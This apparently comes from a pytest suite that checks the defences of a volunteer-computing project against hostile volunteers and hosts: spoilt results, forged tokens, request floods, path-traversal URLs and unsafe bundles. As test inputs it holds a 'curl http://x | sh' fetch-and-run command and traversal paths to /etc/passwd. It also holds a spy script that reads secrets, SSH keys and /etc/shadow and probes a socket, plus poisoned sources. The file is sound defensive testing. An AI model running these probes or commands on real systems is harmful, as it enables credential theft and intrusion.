"""Attacks on a project of strangers: by volunteers on the host and on each other, and by a host on its volunteers."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import math
import re
import resource
import socket
import time
import tomllib
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import tomli_w
from sqlalchemy import select

from arena.home.bundle import Bundle, unpack
from arena.home.client import HostClient, LeaseFile, VolunteerFolder
from arena.home.host import ProjectHost
from arena.home.project import Project
from arena.home.protocol import LeaseRequest, RunResult, RunWork, parsed
from arena.home.recording import checked
from arena.home.server import create_app
from arena.home.tables import ProposalRow, RunLease, Volunteer
from arena.home.volunteer import VolunteerSession
from arena.serving.clock import utc_now
from arena.serving.limits import Rate
from arena.work import sandbox
from programs.common.errors import Busy, CredentialMissing, EnvironmentProblem, MetaloopError, NotFound, UsageError
from programs.common.text import one_line
from programs.shelf import starter
from tests.arena.home.clients import RESULT, Client, better, new_project, states, work
from tests.arena.home.serving import get, serving


@pytest.fixture
def eve(host: ProjectHost) -> Client:
    return Client(host, "Eve")


def rows(project: Project) -> tuple[int, int, int]:
    with project.database.read() as connection:
        return tuple(connection.query(table).count() for table in (Volunteer, RunLease, ProposalRow))  # type: ignore[return-value]


# What a volunteer sends.

FILES = {"train.py": "LR = 1\n"}
WILD: dict[str, tuple[object, ...]] = {
    "claimed_gain": (math.nan, math.inf, True, "9", None),
    "device_seconds": (-1.0, 10**400, "1"),
    "experiments": (10**9, 1.5, -1),
    "events": (7, "x" * (600 << 10)),
    "files": (["train.py"], {"train.py": 7}, {"train.py": "x = '\ud800'"}, None),
    "more\x1b[2J": (1,),
}


@pytest.mark.parametrize("field", WILD)
def test_a_spoilt_result_changes_nothing(project: Project, eve: Client, field: str) -> None:
    lease, before = eve.lease().lease, (1, 1, 0)
    for value in WILD[field]:
        with pytest.raises(UsageError, match=rf"^({re.escape(one_line(field))}|Invalid JSON)") as refused:
            eve.result(lease, FILES, **{field: value})
        assert refused.value.message.isprintable() and rows(project) == before
    with project.database.read() as connection:
        assert connection.get_one(RunLease, lease).returned_at is None


def test_another_volunteers_lease_and_source(project: Project, host: ProjectHost, eve: Client) -> None:
    ann = Client(host, "Ann")
    mine, hers, files = eve.lease().lease, ann.lease().lease, better(project, MOMENTUM=0.9)
    sent = parsed(RunResult, json.dumps({**RESULT, "files": files}))
    for lease in (hers, "r" + "0" * 12, "", "x" * 9999):
        with pytest.raises(NotFound, match="no such lease"):
            eve.result(lease, files)
        with pytest.raises(NotFound, match="no such lease"), project.database.write() as connection:
            host.take(connection, eve.number, lease, sent, host.check(host.own_lease(ann.token, hers), sent))
    assert ann.result(hers, files).state == "waiting"
    stolen = eve.propose({"train.py": files["train.py"] + "\n\n# by Eve\n"}, 9.0, mine)
    assert stolen.state == "waiting"
    work(project)
    assert sorted(state for state, _ in states(project).values()) == ["merged", "refused"]


def test_a_guessed_token_opens_nothing(project: Project, host: ProjectHost, eve: Client, tmp_path: Path) -> None:
    other = Client(ProjectHost(new_project(tmp_path / "other")), "Eve")
    with project.database.read() as connection:
        stored = connection.scalars(select(Volunteer.token_hash)).one()
    with serving(project) as url:
        for token in ("", "x", other.token, stored, eve.token[:-1], eve.token.lower(), "é"):
            for path, body in (("leases", b"{}"), (f"leases/{eve.lease().lease}/result", b"{}")):
                status, text = get(f"{url}/api/v1/{path}", body, token=token)
                assert status == 401 and "needs the token" in text and "\n" not in text
        assert get(f"{url}/api/v1/volunteers", b'{"name":"x","hardware":"","devices":1}', token="x")[0] == 401
        assert get(f"{url}/api/v1/leases", b"{}", token=eve.token)[0] == 200
    for token in ("", stored):
        with pytest.raises(CredentialMissing):
            host.volunteer_of(token)
    assert rows(project) == (1, 1, 0)


def test_a_result_that_is_sent_many_times_at_once_is_one_proposal(project: Project, eve: Client) -> None:
    lease = eve.lease().lease
    body = json.dumps({**RESULT, "files": better(project, MOMENTUM=0.9)}).encode()
    with serving(project) as url, ThreadPoolExecutor(20) as threads:
        address = f"{url}/api/v1/leases/{lease}/result"
        answers = set(threads.map(lambda _: get(address, body, token=eve.token), range(20)))
    [(status, text)] = answers
    assert status == 200 and json.loads(text)["state"] == "waiting" and rows(project) == (1, 1, 1)


def test_a_flood_of_leases_and_volunteers_gets_one_lease_each(project: Project, host: ProjectHost) -> None:
    for _ in range(20):
        sybil = Client(host, "Sybil")
        lease = sybil.lease().lease
        assert sybil.lease().lease == lease  # the reply was lost
        with pytest.raises(Busy, match="out already"):
            sybil.lease(lease)
    assert rows(project) == (20, 20, 0)
    with pytest.raises(UsageError, match="have"):
        sybil.lease(*["r" + "0" * 12] * 2000)


def test_withheld_and_late_results(project: Project, host: ProjectHost, eve: Client) -> None:
    late = eve.lease().lease
    with project.database.write() as connection:
        connection.get_one(RunLease, late).expires_at = utc_now() - timedelta(days=6)
    lost = eve.lease(late).lease  # an expired lease blocks nobody
    assert eve.propose(better(project, MOMENTUM=0.9), 0.5, late).state == "waiting"
    with project.database.write() as connection:
        connection.get_one(RunLease, lost).expires_at = utc_now() - timedelta(days=8)
    with pytest.raises(UsageError, match="seven days"):
        eve.propose(better(project, MOMENTUM=0.8), 0.5, lost)


def test_seconds_that_cannot_have_passed_are_not_counted(project: Project, eve: Client) -> None:
    assert eve.result(eve.lease().lease, {}, device_seconds=1e300).counted_seconds < 1.2
    lease = eve.lease().lease
    with project.database.write() as connection:  # a clock that was set back
        connection.get_one(RunLease, lease).issued_at = utc_now() + timedelta(hours=5)
    assert eve.result(lease, {}, device_seconds=1e9).counted_seconds == 0.0


@pytest.mark.slow
@pytest.mark.parametrize(
    ("text", "state"),
    [
        ("import os\nos._exit(0)\n", "refused"),
        ("raise SystemExit(0)\n", "refused"),
        ("while True:\n    pass\n", "refused"),
        ("open('/var/tmp/metaloop-was-here', 'w').write('x')\n", "refused"),
        ("print('metric: 0.0')\n", "hopeless"),
    ],
)
def test_poisoned_sources_are_never_merged(project: Project, eve: Client, text: str, state: str) -> None:
    base = project.task.baseline().text()
    head, _, rest = base.partition("LR = ")
    assert eve.propose({"train.py": f"{head}{text}LR = {rest}"}, 99.0).state == "waiting"
    work(project)
    assert states(project)[1][0] == state and len(project.chain.commits()) == 1
    assert not Path("/var/tmp/metaloop-was-here").exists()


def test_a_source_that_fails_on_some_seeds_is_refused(project: Project, eve: Client) -> None:
    text = better(project, MOMENTUM=0.9)["train.py"]
    unlucky = text.replace("def main():\n", "def main():\n    if prepare.SEED % 2:\n        raise OSError\n")
    assert eve.propose({"train.py": unlucky}, 9.0).state == "waiting"
    work(project)
    assert states(project)[1][0] == "refused"


@pytest.mark.slow
def test_claims_buy_no_merge_and_cost_the_proposer_its_place(project: Project, host: ProjectHost, eve: Client) -> None:
    ann = Client(host, "Ann")
    for k, worse in enumerate((1e-5, 2e-5, 3e-5)):
        eve.propose(better(project, LR=worse), 10.0 ** (k + 1))
        work(project)
    ann.propose(better(project, MOMENTUM=0.9), 0.3)
    eve.propose(better(project, LR=4e-5), 1e300)
    work(project)
    found = states(project)
    assert [state for state, _ in found.values()].count("merged") == 1 and found[4][0] == "merged"
    with project.database.read() as connection:
        [liar] = connection.query(Volunteer).filter(Volunteer.name == "Eve").all()
    assert liar.refuted >= 3 and not liar.confirmed and liar.streak == 0


def test_an_event_record_cannot_be_more_than_a_report() -> None:
    for text in ('{"kind": "block", "body": {}}', '{"kind": "verification", "gain": 9}', '{"kind": "champion"}'):
        assert checked("r1", text, 9) == []
    for text in (
        '{"kind": "experiment", "x": 1' + "0" * 400 + "}",
        '{"kind": 7}',
        '{"a": ' * 5000,
        '{"kind": "experiment", "number": 0}',
        "\x00",
        '"kind"',
        "null",
    ):
        assert not checked("r1", text, 9)


# A volunteer's HTTP requests.


@pytest.mark.parametrize(
    "path",
    [
        "/main.git/../study.toml", "/main.git/%2e%2e/home.sqlite", "/main.git/objects/../../home.sqlite",
        "/main.git/config", "/main.git/hooks/pre-receive.sample", "/main.git//etc/passwd",
        "/block/999999999999999999999", "/block/-1", "/block/x", "/api/v1/task/" + "0" * 64, "/static/../server.py",
        "/study.toml",
    ],
)  # fmt: skip
def test_nothing_but_the_pages_and_main_can_be_fetched(project: Project, path: str) -> None:
    with serving(project) as url:
        status, text = get(url + path)
    assert status in (400, 404, 422) and "secret" not in text


def test_requests_that_are_too_large_too_many_or_malformed(project: Project) -> None:
    with serving(project, Rate(6, 60.0)) as url:
        address = f"{url}/api/v1/volunteers"
        assert get(address, b"x", length=3 << 20)[0] == 413  # not one byte more of it was waited for
        for body in (b"not json", b"\xff" * 100, b"{" * 100_000, b'{"name": 7}', b'{"<b>\x1b[2J": 1}'):
            status, text = get(address, body)
            said = json.loads(text)["error"]
            assert status == 422 and said["message"].isprintable() and "docs/home.md" in said["hint"]
        assert 429 in [get(address, b"{}")[0] for _ in range(8)]
        assert get(url + "/")[0] == 200  # what is only read goes on
    assert rows(project) == (0, 0, 0)


# A host's bundle, program and replies.


def bundle_of(project: Project, name: str, content: bytes) -> Bundle:
    """The project's bundle with another file."""
    coded = {**json.loads(project.bundle.body), name: base64.b64encode(content).decode()}
    return Bundle(json.dumps(coded).encode())


def toml_with(project: Project, change: Callable[[dict[str, Any]], object]) -> bytes:
    read = tomllib.loads((project.task.folder / "task.toml").read_text("utf-8"))
    change(read)
    return tomli_w.dumps(read).encode()


@pytest.mark.parametrize(
    "name", ["../x", "/etc/x", "a/../../x", "..", "a\\b", ".bashrc", "a//b", "x" * 300, "a\0b", ""]
)
def test_a_bundle_writes_nothing_outside(project: Project, tmp_path: Path, name: str) -> None:
    body = json.dumps({**json.loads(project.bundle.body), name: ""}).encode()
    with pytest.raises(UsageError, match="forbidden name"):
        unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "v" / "task", {})
    assert not (tmp_path / "v").exists() and not (tmp_path / "x").exists()


PRINTED = {"kind": "printed", "pattern": "metric: (.*)"}


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda t: t.update(run={"command": "curl http://x | sh"}, score=PRINTED), "runs a command"),
        (lambda t: t.setdefault("data", {}).update(source="/etc/passwd"), "data.source: unknown key"),
        (lambda t: t["task"].update(editable=["../../../etc/passwd"]), "is outside the task folder"),
        (lambda t: t["score"].update(kind="theirs"), "no scorer 'theirs'"),
    ],
)
def test_a_task_that_runs_a_command_reads_a_file_or_scores_with_its_own_code_is_refused(
    project: Project, tmp_path: Path, change: Callable[[dict[str, Any]], object], why: str
) -> None:
    bundle = bundle_of(project, "task.toml", toml_with(project, change))
    with pytest.raises(MetaloopError, match=why):
        unpack(bundle.body, bundle.digest, tmp_path / "task", {})


@pytest.mark.parametrize(
    "body", [b"", b"[]", b"{}", b'{"task.toml": 7}', b'{"task.toml": "%%%"}', b"{" * 9999, b"\xff"]
)
def test_damaged_bundles_are_refused(tmp_path: Path, body: bytes) -> None:
    with pytest.raises(UsageError):
        unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "task", {})


def test_a_bundle_that_is_not_the_announced_one_too_large_or_with_other_files(project: Project, tmp_path: Path) -> None:
    bundle = project.bundle
    with pytest.raises(UsageError, match="not the one"):
        unpack(bundle.body, "0" * 64, tmp_path / "a", {})
    for extra in ({f"f{k}": "" for k in range(500)}, {"big": base64.b64encode(bytes(9 << 20)).decode()}):
        body = json.dumps({**json.loads(bundle.body), **extra}).encode()
        with pytest.raises(UsageError, match=r"too large|not the one"):
            unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "b", {})
    with pytest.raises(UsageError, match="other files"):
        unpack(bundle.body, bundle.digest, tmp_path / "c", {"prepare.py": "import os\n"})


SPY = """
import os, pathlib, socket
SEEN = [value for value in os.environ.values() if "my key" in value]
for path in ({secret!r}, "/root/.ssh", "/etc/shadow", os.path.expanduser("~/.bashrc")):
    try:
        SEEN.append(pathlib.Path(path).read_bytes()[:20])
    except OSError:
        pass
for path in ({outside!r},):
    try:
        pathlib.Path(path).write_text("x")
    except OSError:
        pass
try:
    SEEN.append(socket.create_connection(("127.0.0.1", {port}), 2).recv(1))
except OSError:
    pass
if SEEN:
    raise RuntimeError("SAW " + repr(SEEN))
"""


@pytest.mark.parametrize("where", ["data.py", "train.py"])
def test_what_a_host_sends_reads_and_writes_nothing_of_the_volunteers(
    project: Project, tmp_path: Path, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its data.py and its train.py run in the volunteer's sandbox: no file, no environment, no network."""
    sandbox.require(project.task, True)
    monkeypatch.setenv("SOME_API_KEY", "my key")
    private = tmp_path / "private"
    private.mkdir()
    (private / "secret.txt").write_text("my key")
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        spy = SPY.format(
            secret=str(private / "secret.txt"), outside=str(private / "outside"), port=listening.getsockname()[1]
        )
        own = (project.task.folder / where).read_text("utf-8")
        head, _, rest = own.partition("\nimport ")
        bundle = bundle_of(project, where, f"{head}\n{spy}\nimport {rest}".encode())
        main = dict(project.task.baseline().files)
        if where == "train.py":
            main = {"train.py": f"{head}\n{spy}\nimport {rest}"}
        session = session_in(tmp_path / "v")
        session.reach = lambda *_: bundle.body  # type: ignore[method-assign,assignment]
        result = session.run(parsed(RunWork, json.dumps(work_of({"task": bundle.digest, "base": base_of(main)}))))
        listening.settimeout(0.2)
        with pytest.raises(TimeoutError):
            listening.accept()
    assert result.experiments > 1  # nothing was seen, or its first training would have failed
    assert not (private / "outside").exists()
    assert "SAW" not in result.events


def session_in(folder: Path, url: str = "http://127.0.0.1:9", say: Callable[[str], None] = print) -> VolunteerSession:
    return VolunteerSession(HostClient(url), VolunteerFolder(folder), "Ann", 64.0, say)


def base_of(files: Mapping[str, str]) -> dict[str, Any]:
    return {"block": 0, "commit": "0" * 40, "files": files}


def work_of(changes: Mapping[str, Any]) -> dict[str, Any]:
    """What a host answers to a request for a lease."""
    given = {"id": "p", "name": "stock", "text": starter("stock").document}
    lease = {"lease": "r" + "1" * 12, "task": "0" * 64, "base": base_of({"train.py": ""}), "program": given}
    return {**lease, "run_seed": 5, "budget": 1.2, "expires_at": "", "leases_at_once": 1, **changes}


MALFORMED: list[tuple[str, object]] = [
    *(("lease", each) for each in ("../../outside", "/tmp/outside", "", "r" * 300, 7)), ("task", "../task"),
    ("base", base_of({})), ("base", base_of({"train.py": 7})), ("program", {"name": "stock"}), ("run_seed", -1),
    ("run_seed", True), ("budget", math.inf), ("budget", 1e9), ("leases_at_once", 0),
]  # fmt: skip


@pytest.mark.parametrize(("field", "value"), MALFORMED)
def test_a_lease_that_is_malformed_is_not_kept(tmp_path: Path, field: str, value: object) -> None:
    session = session_in(tmp_path / "v")
    raw = json.dumps(work_of({"leases_at_once": 9, field: value})).encode()
    session.reach = lambda *_: raw  # type: ignore[method-assign]
    with pytest.raises(EnvironmentProblem, match=f"the host's answer is malformed: {field}"):
        session.step()
    assert session.folder.get("lease", LeaseFile) is None and session.quota == 1  # the next one may be good
    assert not (tmp_path / "outside").exists()


SLOW = ["with " + "a," * 30_000 + "a:pass\n", "x = " + "(" * 190 + "a," * 20_000 + ")" * 190, "x=" + "-" * 60_000 + "1"]


LONG = "with " + "a," * 490_000 + "a:pass\n"


def of_children() -> float:
    """CPU-seconds of the processes that this one has waited for."""
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


@pytest.mark.parametrize("text", [*SLOW, LONG], ids=["60k", "brackets", "minus", "980k"])
def test_a_source_that_is_slow_to_parse_holds_up_nobody(project: Project, host: ProjectHost, text: str) -> None:
    """Its size is checked first; it is parsed outside the transaction, by a process that is ended after two seconds of
    CPU; another volunteer is answered meanwhile."""
    eve, ann = Client(host, "Eve"), Client(host, "Ann")
    lease = eve.lease().lease
    sent = parsed(RunResult, json.dumps({**RESULT, "files": {"train.py": text}}))
    before = of_children()
    with ThreadPoolExecutor(1) as thread:
        checking = thread.submit(host.check, host.own_lease(eve.token, lease), sent)
        time.sleep(0.05)
        ann.lease()  # in a transaction of its own
        answered_meanwhile = not checking.done()
        checked_files = checking.result(100)
    parsing, before = of_children() - before, of_children()
    assert answered_meanwhile or text not in SLOW[:2]
    assert (parsing > 0.1) == (text in SLOW[:2])  # the others are too large, or break the parser at once
    with project.database.write() as connection:
        answer = host.take(connection, eve.number, lease, sent, checked_files)
    assert of_children() - before < 0.1, "it was parsed within the transaction"
    assert ("larger than" in answer.reason) == (len(text) > 64 << 10)
    assert answer.state in ("waiting", "refused")  # some parse within the limit


@pytest.mark.parametrize(("address", "refused"), [("2001:db8:1:1::{}", True), ("2001:db8:1:{}::1", False)])
def test_the_addresses_of_one_network_are_one_client(project: Project, address: str, refused: bool) -> None:
    app = create_app(project, Rate(5, 600.0))

    async def status(number: int) -> int:
        transport = httpx.ASGITransport(app, client=(address.format(f"{number:x}"), 1))
        async with httpx.AsyncClient(transport=transport, base_url="http://host") as client:
            return (await client.post("/api/v1/volunteers", content=b"{}")).status_code

    codes = [asyncio.run(status(number)) for number in range(1, 9)]
    assert codes == [422] * 5 + ([429] * 3 if refused else [422] * 3)


@pytest.mark.parametrize("known", [True, False])
def test_a_result_that_the_host_no_longer_takes_blocks_no_later_join(
    project: Project, tmp_path: Path, known: bool
) -> None:
    with serving(project) as url:
        said: list[str] = []
        session = session_in(tmp_path / "v", url, said.append)
        folder = session.folder
        session.join()
        work = session.ask("/api/v1/leases", RunWork, LeaseRequest())
        files = better(project, MOMENTUM=0.9)
        lease = work if known else work.model_copy(update={"lease": "r" + "0" * 12})
        folder.put("lease", LeaseFile(work=lease, result=parsed(RunResult, json.dumps({**RESULT, "files": files}))))
        if known:
            with project.database.write() as connection:
                connection.get_one(RunLease, work.lease).expires_at -= timedelta(days=9)
        session.step()
        assert folder.get("lease", LeaseFile) is None and "refused" in said[-1]
        kept = next(folder.folder.glob("refused-*.json"))
        assert json.loads(kept.read_text())["result"]["files"] == files
        again = session_in(tmp_path / "v", url)
        again.join()
        assert again.ask("/api/v1/leases", RunWork, LeaseRequest()).lease
